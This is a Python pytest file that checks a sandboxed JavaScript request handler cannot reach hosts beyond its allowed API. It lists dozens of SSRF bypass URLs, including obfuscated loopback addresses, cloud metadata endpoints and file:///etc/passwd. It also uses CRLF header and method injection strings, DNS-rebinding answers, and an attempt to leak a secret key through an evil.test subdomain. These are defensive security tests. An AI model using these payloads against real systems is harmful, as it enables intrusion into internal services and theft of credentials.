"""Where a handler tries to send requests, and that no packet leaves (LANGUAGE §5.5)."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from hostile.conftest import SECRET, Arena, outcome
from moltler.loop import LoopThread
from moltler.net.client import HttpTransport
from moltler.net.settings import NetSettings
from moltler.sandbox.handler import JavaScriptHandlers
from sandbox.conftest import Instance, Runtime
from support.dns import NameServer
from support.http import redirect
from support.sealing import sealed

ELSEWHERE = [
    "http://{foreign}/",
    "HTTP://{foreign}/",
    "http:/{foreign}/",
    "http:\\\\{foreign}\\",
    "  http://{foreign}/  ",
    "http://127.0.0.1:{port}@{foreign}/",
    "http://127.0.0.1:{port}%40{foreign}/",
    "http://{foreign}/?@127.0.0.1:{port}/",
    "http://{foreign}#127.0.0.1:{port}",
    "http://127.0.0.1.:1/",
    "http://2130706433:{foreign_port}/",
    "http://0x7f.1:{foreign_port}/",
    "http://0177.0.0.1:{foreign_port}/",
    "http://127.1:{foreign_port}/",
    "http://127.0.0.1:{foreign_port}\t/",
    "http://localhost:{foreign_port}/",
    "http://LOCALHOST.:{foreign_port}/",
    "http://[::1]:{foreign_port}/",
    "http://[::ffff:127.0.0.1]:{foreign_port}/",
    "http://[::ffff:7f00:1]:{foreign_port}/",
    "http://[0:0:0:0:0:ffff:7f00:0001]:{port}/",
    "http://[::127.0.0.1]:{port}/",
    "http://[64:ff9b::7f00:1]:{port}/",
    "http://[2002:7f00:1::]:{port}/",
    "http://[::1%25lo]:{port}/",
    "http://①②⑦.⓪.⓪.①:{foreign_port}/",
    "http://127。0。0。1:{foreign_port}/",
    "http://０x7f.1:{foreign_port}/",
    "http://127.0.0.1\u00ad.evil.test/",
    "http://xn--/",
    "http://bücher.evil.test/",
    "http://аpi.example.test/",
    "http://api.example.test.evil.test/",
    "http://evil.test\\@127.0.0.1:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/",
    "http://metadata.google.internal/",
    "http://100.100.100.200/",
    "http://0/",
    "http://0.0.0.0:{foreign_port}/",
    "http://255.255.255.255/",
    "http://224.0.0.1/",
    "http://10.0.0.1/",
    "http://192.168.0.1/",
    "http://198.51.100.1/",
    "https://127.0.0.1:1/",
    "file:///etc/passwd",
    "ftp://127.0.0.1:{port}/",
    "gopher://127.0.0.1:{port}/",
    "ws://127.0.0.1:{port}/",
    "data:text/plain,hello",
    "blob:null/0",
    "mock://api/",
    "javascript:1",
    "about:blank",
    "http://",
    "http://:{port}/",
    "http://127.0.0.1:99999/",
    "http://127.0.0.1:-1/",
]


def told(arena: Arena, url: str) -> str:
    return url.format(
        foreign=f"127.0.0.1:{arena.foreign.port}",
        foreign_port=arena.foreign.port,
        port=arena.api.port,
    )


@pytest.fixture(scope="module")
def mean(arena: Arena) -> Instance:
    return arena.attacker()


@pytest.mark.parametrize("url", ELSEWHERE)
def test_no_spelling_of_an_address_leads_elsewhere(arena: Arena, mean: Instance, url: str) -> None:
    before = len(arena.api.requests)
    result = outcome(
        mean,
        f"return await fetch({told(arena, url)!r}, {{headers: {{K: key}}}})"
        ".then(async (r) => ['sent', await r.text()], (e) => [e.name, e.code ?? e.message])",
    )
    assert result[0] != "sent" or "hello" in result[1]
    assert arena.foreign.connections == 0

    assert len(arena.api.requests) == before


@pytest.mark.parametrize("url", ELSEWHERE)
def test_no_redirect_leads_elsewhere(arena: Arena, mean: Instance, url: str) -> None:
    try:
        location = told(arena, url).encode("latin-1").decode("latin-1")
    except UnicodeEncodeError:
        location = told(arena, url).encode().decode("latin-1")
    location = location.replace("\t", "%09")
    arena.api.route("GET", "/leads", redirect(location, 307))
    before = len(arena.api.requests)
    result = outcome(
        mean,
        "return await fetch(url + '/leads', {headers: {K: key, Authorization: key}})"
        ".then((r) => ['sent', r.status], (e) => [e.name, e.code])",
    )
    assert result in (["FetchError", "EGRESS_BLOCKED"], ["FetchError", "ECONNREFUSED"])
    assert len(arena.api.requests) == before + 1


def test_the_address_that_is_allowed_is_reached(arena: Arena, mean: Instance) -> None:
    for url in ("http://127.0.0.1:{port}/ok", "HTTP://127.1:{port}/ok", "http:127.0.0.1:{port}/ok"):
        assert outcome(mean, f"return (await fetch({told(arena, url)!r})).status") == 200


HEADERS = {
    "Host": "evil.test",
    "host": "127.0.0.1",
    "Content-Length": "0",
    "Transfer-Encoding": "chunked",
    "Connection": "X-Kept",
    "Upgrade": "h2c",
    "Expect": "100-continue",
    "TE": "trailers",
    "Proxy-Connection": "keep-alive",
    "Keep-Alive": "timeout=999",
    "Trailer": "X",
}


@pytest.mark.parametrize("name", HEADERS)
def test_a_header_of_the_connection_is_not_the_handlers(
    arena: Arena, mean: Instance, name: str
) -> None:
    sent = len(arena.api.requests)
    outcome(mean, f"return (await fetch(url + '/ok', {{method: 'POST', body: 'four', headers:"
                  f" {{'{name}': '{HEADERS[name]}'}}}})).status")  # fmt: skip
    (request,) = arena.api.requests[sent:]
    assert request.headers["host"] == f"127.0.0.1:{arena.api.port}"
    assert request.headers["content-length"] == "4"
    assert request.body == b"four"
    if name.lower() not in {"host", "content-length", "connection"}:
        assert name.lower() not in request.headers


@pytest.mark.parametrize(
    "header",
    ["'A\\r\\nB': 'x'", "'A': 'x\\r\\nB: y'", "'A': 'x\\nB: y'", "'A': 'x\\0'", "'A ': 'x'",
     "'A:': 'x'", "'': 'x'", "'Ä': 'x'", "'A': '\\u{1f600}'"],
)  # fmt: skip
def test_a_header_cannot_begin_another(arena: Arena, mean: Instance, header: str) -> None:
    sent = len(arena.api.requests)
    result = outcome(mean, f"return await fetch(url + '/ok', {{headers: {{{header}}}}})"
                           ".then((r) => r.status, (e) => e.name)")  # fmt: skip
    assert result in {"TypeError", "FetchError", 200}
    assert all("b" not in r.headers for r in arena.api.requests[sent:])


@pytest.mark.parametrize(
    "method", ["CONNECT", "TRACE", "TRACK", "GET / HTTP/1.1\\r\\nA: b", "", "G ET"]
)
def test_a_method_cannot_be_more_than_one(arena: Arena, mean: Instance, method: str) -> None:
    sent = len(arena.api.requests)
    result = outcome(mean, f"return await fetch(url + '/ok', {{method: '{method}'}})"
                           ".then((r) => r.status, (e) => e.name)")  # fmt: skip
    assert result in {"TypeError", "FetchError"}
    assert len(arena.api.requests) == sent


# ── names that change their address ──────────────────────────────────────────────────────────


@dataclass
class Rebinding:
    """A runtime whose names are answered by a server of ours."""

    arena: Arena
    names: NameServer
    runtime: Runtime

    def shop(self, host: str, *, named: bool) -> Instance:
        """An instance that may reach a name: named in its CONFIG, or allowed by its type."""
        port = self.arena.api.port
        config = {"base": f"{host}:{port}"} | (
            {"api_url": f"http://{host}:{port}"} if named else {}
        )
        target = sealed(
            config, {"api_key": SECRET}, name=host.partition(".")[0], hosts=[f"{host}:{port}"]
        )
        return Instance(self.runtime, target)


@pytest.fixture
def rebinding(arena: Arena) -> Iterator[Rebinding]:
    answers = {
        "moves.test": [["127.0.0.1"], ["169.254.169.254"]],
        "inner.test": [["127.0.0.1"]],
        "mixed.test": [["93.184.216.34", "127.0.0.1"]],
        "mapped.test": [["::ffff:127.0.0.1"]],
        "metadata.test": [["169.254.169.254"]],
        "six.test": [["fd00:ec2::254"]],
        "unspecified.test": [["0.0.0.0"]],
    }
    loop = LoopThread()
    with NameServer(answers) as names:
        settings = NetSettings(lookup=names.lookup)
        handlers = JavaScriptHandlers(loop, lambda t: HttpTransport(t, settings=settings))
        yield Rebinding(arena, names, Runtime(loop, handlers, []))
        handlers.close()
        loop.close()


ASK = (
    "return await fetch(`http://${config.base}/ok`, {headers: {K: config.api_key,"
    " Connection: 'close'}}).then(async (r) => [r.status, await r.text()], (e) => e.code)"
)


def test_a_name_that_moves_to_the_metadata_service_is_refused(rebinding: Rebinding) -> None:
    rebinding.arena.api.route("*", "/ok", _closing)
    shop = rebinding.shop("moves.test", named=True)
    assert outcome(shop, ASK) == [200, '{"ok": true}']
    assert outcome(shop, ASK) == "EGRESS_BLOCKED"
    # Each connection asks once: what was judged is what is connected to.
    assert rebinding.names.asked == ["moves.test", "moves.test"]


def _closing(_: Any) -> Any:
    from support.http import Response

    return Response(200, {"ok": True}, then="close")


@pytest.mark.parametrize(
    "host",
    ["inner.test", "mixed.test", "mapped.test", "metadata.test", "six.test", "unspecified.test"],
)
def test_a_name_that_the_type_allows_opens_no_inner_network(
    rebinding: Rebinding, host: str
) -> None:
    sent = len(rebinding.arena.api.requests)
    without_secret = ASK.replace("K: config.api_key,", "")
    assert outcome(rebinding.shop(host, named=False), without_secret) == "EGRESS_BLOCKED"
    assert len(rebinding.arena.api.requests) == sent
    assert rebinding.names.asked == [host]


def test_a_seal_in_a_name_is_judged_before_anybody_is_asked(rebinding: Rebinding) -> None:
    shop = rebinding.shop("inner.test", named=False)
    result = outcome(shop, "return await fetch(`https://${config.api_key}.evil.test/`)"
                           ".catch((e) => e.code)")  # fmt: skip
    assert result == "EGRESS_BLOCKED"
    assert rebinding.names.asked == []
